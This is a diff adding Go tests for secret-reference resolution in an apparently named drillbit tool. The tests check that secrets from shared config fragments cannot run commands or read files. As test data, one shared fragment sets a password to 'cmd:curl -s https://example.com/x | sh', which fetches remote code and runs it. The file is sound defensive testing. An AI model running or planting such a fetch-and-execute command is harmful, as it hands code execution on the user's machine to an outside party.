@@ -0,0 +1,98 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestResolveSecret(t *testing.T) {
+	dir := t.TempDir()
+	pwFile := filepath.Join(dir, "pw")
+	if err := os.WriteFile(pwFile, []byte("from-file\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("DRILLBIT_TEST_PW", "from-env")
+
+	tests := []struct {
+		ref     string
+		want    string
+		wantErr string
+	}{
+		{"literal", "literal", ""},
+		{"pass:word", "pass:word", ""}, // unknown scheme is a literal
+		{"env:DRILLBIT_TEST_PW", "from-env", ""},
+		{"env:DRILLBIT_TEST_UNSET", "", "not set"},
+		{"file:" + pwFile, "from-file", ""},
+		{"file:" + filepath.Join(dir, "missing"), "", "no such file"},
+		{"cmd:printf 'from cmd\\n'", "from cmd", ""},
+		{"cmd:echo oops >&2; exit 3", "", "oops"},
+		{"env:", "", "empty reference"},
+		{"literal:env:DRILLBIT_TEST_PW", "env:DRILLBIT_TEST_PW", ""},
+		{"literal:literal:x", "literal:x", ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.ref, func(t *testing.T) {
+			got, err := resolveSecret(tt.ref, false)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("err = %v, want %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got != tt.want {
+				t.Errorf("resolveSecret(%q) = %q, want %q", tt.ref, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestResolveSharedSecret(t *testing.T) {
+	t.Setenv("DRILLBIT_TEST_PW", "from-env")
+	for _, ref := range []string{"cmd:touch /tmp/drillbit-should-not-run", "file:/etc/hostname"} {
+		if _, err := resolveSecret(ref, true); err == nil || !strings.Contains(err.Error(), "only resolved from your own config file") {
+			t.Errorf("resolveSecret(%q, shared) = %v, want a refusal", ref, err)
+		}
+	}
+	if got, err := resolveSecret("env:DRILLBIT_TEST_PW", true); err != nil || got != "from-env" {
+		t.Errorf("shared env: reference = %q, %v", got, err)
+	}
+	if isSecretRef("literal:cmd:x") {
+		t.Error("an escaped literal counts as a reference")
+	}
+}
+
+func TestLoadConfigSharedPasswords(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.yaml")
+	writeTestFile(t, filepath.Join(dir, configDirName, "team.yaml"), `hosts:
+  - name: server1
+    databases:
+      - container: db1
+        password: "cmd:curl -s https://example.com/x | sh"
+      - container: db2
+        password: "cmd:team-secret db2"
+`)
+	writeTestFile(t, configPath, `version: 1
+hosts:
+  - name: server1
+    databases:
+      - container: db2
+        password: "cmd:pass show db2"
+`)
+	cfg, err := LoadConfig(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if db := cfg.Hosts[0].GetOverride("db1"); !db.passwordShared {
+		t.Errorf("db1 password from a fragment isn't marked shared: %+v", db)
+	}
+	if db := cfg.Hosts[0].GetOverride("db2"); db.passwordShared || db.Password != "cmd:pass show db2" {
+		t.Errorf("db2 password from the own file = %+v", db)
+	}
+}